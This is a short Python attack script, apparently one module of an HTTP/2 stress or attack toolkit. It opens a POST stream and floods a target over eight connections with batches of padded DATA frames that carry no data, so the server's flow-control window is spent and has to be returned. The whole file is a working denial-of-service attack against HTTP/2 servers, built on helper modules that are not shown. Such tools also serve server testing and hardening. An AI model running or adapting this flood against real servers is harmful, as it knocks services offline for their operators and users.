"""DATA frames with one byte of padding and no data: they use up the window, which has to
be returned."""

from itertools import repeat

import frames
from attack import Attack

ATTACK = Attack()


async def run(target):
    post = frames.request(1, frames.head(b"/", "POST"), ends=False)
    batch = frames.frame(frames.DATA, frames.PADDED, 1, b"\x01\x00") * 500
    return await target.flood(8, frames.opening() + post, lambda: repeat(batch))
